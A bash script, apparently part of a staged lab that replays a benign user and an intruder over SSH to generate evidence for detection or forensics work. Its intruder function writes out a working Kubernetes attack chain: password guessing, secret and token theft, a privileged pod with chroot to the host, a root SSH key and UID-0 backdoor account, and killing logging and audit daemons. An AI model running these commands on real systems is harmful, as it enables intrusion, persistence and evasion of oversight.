# What Alice and the intruder do, over real SSH sessions with a terminal: sourced by stage.sh.

outside() {
  ip netns exec stage-outside "$@"
}

# ssh_as KEY ADDRESS ACCOUNT: types the lines of standard input, a breath apart; `...` is a longer pause.
ssh_as() {
  local key=$1 from=$2 account=$3
  { sleep 1; while IFS= read -r line; do if [ "$line" = ... ]; then sleep 6; else printf '%s\n' "$line"; sleep 2; fi; done; } |
    outside timeout 180 ssh -tt -q -b "$from" -i "$key" -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      "$account@$node" >>"$work/$account.terminal" 2>&1 || true
}

# guess_password ADDRESS ACCOUNT: two wrong passwords.
guess_password() {
  printf '#!/bin/sh\necho Summer2026\n' >"$work/askpass"
  chmod 755 "$work/askpass"
  outside env SSH_ASKPASS="$work/askpass" SSH_ASKPASS_REQUIRE=force setsid ssh -q -b "$1" -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=2 \
    -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$2@$node" true || true
}

alice_works() {
  ssh_as "$pki/alice.ssh" "$alice" alice <<'LINES'
uptime
sudo ls -l /var/log/pods
exit
LINES
  outside kubectl --kubeconfig "$pki/alice.conf" -n shop get pods >/dev/null
  outside kubectl --kubeconfig "$pki/alice.conf" -n shop logs deployment/web >/dev/null
}

intruder_breaks_in() {
  guess_password "$intruder" root
  guess_password "$intruder" admin
  guess_password "$intruder" deploy
  ssh_as "$pki/deploy.ssh" "$intruder" deploy <<'LINES'
id
sudo -l
sudo -s
export KUBECONFIG=/etc/kubernetes/admin.conf
kubectl get secrets -A
kubectl -n shop get secret db-credentials -o yaml
kubectl -n shop create rolebinding web-admin --clusterrole=admin --serviceaccount=shop:web
pod=$(kubectl -n shop get pods -o name | head -1)
kubectl -n shop exec $pod -- cat /var/run/secrets/kubernetes.io/serviceaccount/token
kubectl -n shop exec $pod -- sh -c 'printf "Authorization: Bearer " | cat - /var/run/secrets/kubernetes.io/serviceaccount/token >/tmp/h'
kubectl -n shop exec $pod -- curl -sk -H @/tmp/h https://198.51.100.10:6443/api/v1/namespaces/shop/secrets
kubectl -n shop delete networkpolicy default-deny-egress
kubectl apply -f /tmp/.cache/pod.yaml
...
kubectl -n kube-system exec node-exporter-x7 -- chroot /host sh -c 'cat /tmp/.cache/key.pub >> /root/.ssh/authorized_keys'
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc-backup
kubectl get secrets -A -o yaml | openssl enc -aes-256-cbc -pbkdf2 -pass pass:q7 -out /tmp/.cache/s.bin
kill $(cat /run/rsyslogd.pid)
auditctl -D
kill $(cat /run/auditd.pid)
history -c
rm -f /root/.bash_history /home/deploy/.bash_history
exit
exit
LINES
}

# The intruder's own files, as if brought along by scp.
bring_files() {
  in_node install -d -m 755 -o deploy -g deploy /tmp/.cache
  in_node tee /tmp/.cache/key.pub <"$pki/intruder.ssh.pub" >/dev/null
  in_node tee /tmp/.cache/pod.yaml <"$here/privileged-pod.yaml" >/dev/null
}
